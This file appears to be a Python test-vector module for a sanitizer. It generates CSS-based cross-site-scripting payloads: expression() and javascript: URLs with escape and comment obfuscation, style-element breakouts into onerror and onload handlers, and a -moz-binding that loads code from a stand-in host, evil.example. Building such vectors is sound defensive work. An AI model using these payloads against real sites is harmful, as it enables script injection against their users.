"""Style sheets and styles: what ran in old browsers, what asks other hosts, and ways out of the element."""

from __future__ import annotations

DECLARATIONS = [
    "width:expression(alert(1))",
    "width:EXPRESSION (alert(1))",
    "width:exp/**/ression(alert(1))",
    "width:e\\78 pression(alert(1))",
    "width:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e(alert(1))",
    "width:\\000065xpression(alert(1))",
    "width:expr\\65\nssion(alert(1))",
    "background:url(javascript:alert(1))",
    "background:url('java\\\nscript:alert(1)')",
    'background:url( "JAVASCRIPT:alert(1)" )',
    "background:\\75rl(javascript:alert(1))",
    "background:u/**/rl(javascript:alert(1))",
    "background:image-set('javascript:alert(1)' 1x)",
    "background:url(j&#97;vascript:alert(1))",
    "list-style-image:url(vbscript:msgbox(1))",
    "behavior:url(x.htc)",
    "b\\65havior:url(#default#time2)",
    "-moz-binding:url(//evil.example/x.xml#x)",
    "-moz-\\62inding:url(//evil.example/x.xml#x)",
    "-o-link:'javascript:alert(1)';-o-link-source:current",
    "content:'</style><img src=x onerror=alert(1)>'",
    'content:"\'"><img src=x onerror=alert(1)>"',
    "--x:</style><script>alert(1)</script>",
    "color:red;/*</style><svg onload=alert(1)>*/",
    "color:red}</style><img src=x onerror=alert(1)><style>{",
    "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='javascript:alert(1)')",
    "color:red;;;{}}}/*",
    "color:\\3c /style\\3e \\3cimg src=x onerror=alert(1)\\3e",
]
SHEETS = [
    "@import 'javascript:alert(1)';",
    "@import url(data:text/css,*{{width:expression(alert(1))}});",
    "@charset 'utf-7';",
    "@namespace x 'javascript:alert(1)';",
    "<!-- p{{color:red}} --></style><img src=x onerror=alert(1)>",
    "p{{color:red}}</style ><img src=x onerror=alert(1)>",
    "p{{color:red}}</style/><img src=x onerror=alert(1)>",
    "p{{color:red}}</STYLE\t><img src=x onerror=alert(1)>",
    "p:before{{content:'<!--'}}</style>--><img src=x onerror=alert(1)>",
    "<style><style></style><img src=x onerror=alert(1)>",
    "<script></style><img src=x onerror=alert(1)></script>",
    "/* /* /*</style><img src=x onerror=alert(1)>",
]


def vectors() -> list[str]:
    """Every declaration as a style, in a sheet and in a drawing; every sheet in both namespaces."""
    quoted = [declaration.replace("'", "&apos;") for declaration in DECLARATIONS]
    return [
        *(f"<p style='{declaration}'>x</p>" for declaration in quoted),
        *(f"<svg><rect style='{declaration}'></rect></svg>" for declaration in quoted),
        *(f"<style>p {{ {declaration} }}</style>" for declaration in DECLARATIONS),
        *(f"<svg><style>p {{ {declaration} }}</style></svg>" for declaration in DECLARATIONS),
        *(f"<style>{sheet}".replace("{{", "{").replace("}}", "}") for sheet in SHEETS),
        *(f"<svg><style>{sheet}</svg>".replace("{{", "{").replace("}}", "}") for sheet in SHEETS),
    ]
